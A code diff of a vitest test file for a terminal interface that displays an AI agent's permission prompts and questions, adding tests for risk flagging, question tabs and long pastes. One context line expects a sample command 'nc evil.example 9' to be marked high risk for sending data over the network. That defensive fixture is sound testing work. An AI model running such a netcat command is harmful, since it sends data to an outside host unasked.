@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, test, vi } from 'vitest'
+import { flaggedParts, highestRisk } from '../shared/risk-order'
 import { createFakeBridge } from './testing/fake-bridge'
 import { added, agentPermission, logged, permission, question } from './testing/fixtures'
 import { KEYS, paste, plainFrame, press, waitArmed, waitForFrame } from './testing/ink-driver'
@@ -145,6 +146,41 @@ describe('permission prompts as a numbered list', () => {
     expect(frame).toContain('3. nc evil.example 9  ← high risk: sends data over the network')
   })
 
+  test.each([
+    { risks: ['medium', 'medium'], flagged: [] },
+    { risks: ['low', 'medium'], flagged: [2] },
+    { risks: ['medium', 'medium', 'high'], flagged: [3] },
+    { risks: ['high', 'high'], flagged: [1, 2] },
+    { risks: ['low', 'low'], flagged: [] },
+  ] as const)(
+    'parts with risks $risks: the ones marked are those the web tray flags ($flagged)',
+    async ({ risks, flagged }) => {
+      const { app, fake } = await ready()
+      const parts = risks.map((risk, i) => ({ text: `step-${i + 1}`, risk }))
+      fake.emit(
+        added(
+          permission({
+            risk: highestRisk(risks),
+            summary: `Run ${parts.length} commands`,
+            detail: parts.map((p) => p.text).join(' && '),
+            parts,
+          }),
+        ),
+      )
+      const frame = await waitForFrame(app, 'each checked on its own')
+      const marked = parts
+        .map((part, i) => ({
+          n: i + 1,
+          row: frame.split('\n').find((l) => l.includes(`${i + 1}. ${part.text}`)),
+        }))
+        .filter(({ row }) => row?.includes('← '))
+        .map(({ n }) => n)
+      expect(marked).toEqual(flagged)
+      // The shared rule decides it for both UIs.
+      expect(flaggedParts(risks).flatMap((f, i) => (f ? [i + 1] : []))).toEqual(flagged)
+    },
+  )
+
   test('a command is shown once: the summary that repeats it is left out and the tool row just waits', async () => {
     const { app, fake } = await ready()
     fake.emit(
@@ -253,6 +289,55 @@ describe('questions in a small terminal', () => {
   })
 })
 
+describe('question tabs', () => {
+  const LONG =
+    'Which language should the new command-line tool be written in, given that the team knows Python best?'
+
+  test('a tab is named by its question’s header, and the question itself is shown whole, wrapped', async () => {
+    const { app, fake } = await ready(SMALL)
+    fake.emit(
+      added(
+        question({
+          questions: [
+            { question: LONG, header: 'Language', options: [{ label: 'Rust' }, { label: 'Go' }] },
+            {
+              question: 'Which editor?',
+              header: 'Editor',
+              options: [{ label: 'vim' }, { label: 'emacs' }],
+            },
+          ],
+        }),
+      ),
+    )
+    const frame = await waitForFrame(app, 'Question 1 / 2')
+    expectFits(frame, SMALL)
+    expect(frame).toMatch(/☐ Language {2}☐ Editor {2}Submit/)
+    // Every word of the question, in order, on the rows inside the frame.
+    const text = boxRows(frame)
+      .map((row) => row.slice(1, -1).trim())
+      .join(' ')
+    expect(text).toContain(LONG)
+    expect(frame).not.toContain('…')
+  })
+
+  test('a question without a header names its tab by the question, cut to fit', async () => {
+    const { app, fake } = await ready(SMALL)
+    fake.emit(
+      added(
+        question({
+          questions: [
+            { question: LONG, options: [{ label: 'Rust' }, { label: 'Go' }] },
+            { question: 'Which editor?', options: [{ label: 'vim' }, { label: 'emacs' }] },
+          ],
+        }),
+      ),
+    )
+    const frame = await waitForFrame(app, 'Question 1 / 2')
+    expect(frame).toMatch(/☐ Which language[^\n]*…/)
+    expect(frame).toContain('☐ Which editor?')
+  })
+})
+
 describe('"Other" is a real text field', () => {
   async function typingOther() {
     const started = await ready()
@@ -285,11 +370,51 @@ describe('"Other" is a real text field', () => {
     await waitForFrame(started.app, 'Question 1 / 2')
     await waitArmed(started.app)
     await press(started.app, '3', 'Esc back to the options')
-    const answer = Array.from({ length: 8 }, (_, i) => `point ${i + 1}`).join('\n')
-    const frame = await press(started.app, paste(answer), 'point 8')
+    for (let i = 1; i <= 8; i++)
+      await press(started.app, `${i > 1 ? KEYS.altEnter : ''}point ${i}`, `point ${i}`)
+    const frame = plainFrame(started.app)
     expectFits(frame, SMALL)
     expect(frame).toContain('Question 1 / 2')
     expect(frame).not.toContain('point 1')
+    // More lines than rows: the field says which it shows, and the last two are in view.
+    expect(frame).toContain('point 7')
+    expect(frame).toContain('rows 7–8 of 8')
+  })
+
+  test('a 2,000-line paste into "Other" at 60×20 is one line saying so; Ctrl+O shows it; the answer is all of it', async () => {
+    const started = await ready(SMALL)
+    const { app, fake } = started
+    fake.emit(added(question()))
+    await waitForFrame(app, 'Question 1 / 2')
+    await waitArmed(app)
+    await press(app, '3', 'Esc back to the options')
+    const long = Array.from({ length: 2_000 }, (_, i) => String(i % 10)).join('\n')
+    let frame = await press(app, paste(long), '[Pasted text #1 +2000 lines]')
+    expectFits(frame, SMALL)
+    expect(frame).toContain('Ctrl+O show the paste')
+    expect(frame).not.toContain('rows ')
+    frame = await press(app, KEYS.ctrlO, 'rows 1999–2000 of 2000')
+    expectFits(frame, SMALL)
+    expect(frame).not.toContain('[Pasted text')
+    await press(app, KEYS.enter, 'Question 2 / 2')
+    await press(app, '1', 'Review your answers')
+    await press(app, KEYS.enter, (f) => !f.includes('Agent question'))
+    expect(fake.callsOf('respondToQuestion')).toEqual([{ requestId: 'q1', answers: [long, 'vim'] }])
+  })
+
+  test('a pasted answer longer than an answer may be says it will be cut before Enter keeps it', async () => {
+    const { app, fake } = await typingOther()
+    const long = Array.from({ length: 2_000 }, (_, i) => `line ${i + 1}`).join('\n')
+    const frame = await press(app, paste(long), '[Pasted text #1 +2000 lines]')
+    expect(frame.replace(/[│\s]+/g, ' ')).toMatch(
+      /Too long: at most 4000 characters \(now \d+\)\. Only the first 4000 are kept\./,
+    )
+    await press(app, KEYS.enter, 'Question 2 / 2')
+    await press(app, '1', 'Review your answers')
+    await press(app, KEYS.enter, (f) => !f.includes('Agent question'))
+    expect(fake.callsOf('respondToQuestion')).toEqual([
+      { requestId: 'q1', answers: [long.slice(0, 4_000), 'vim'] },
+    ])
   })
 
   test('Esc over typed text asks before discarding it', async () => {
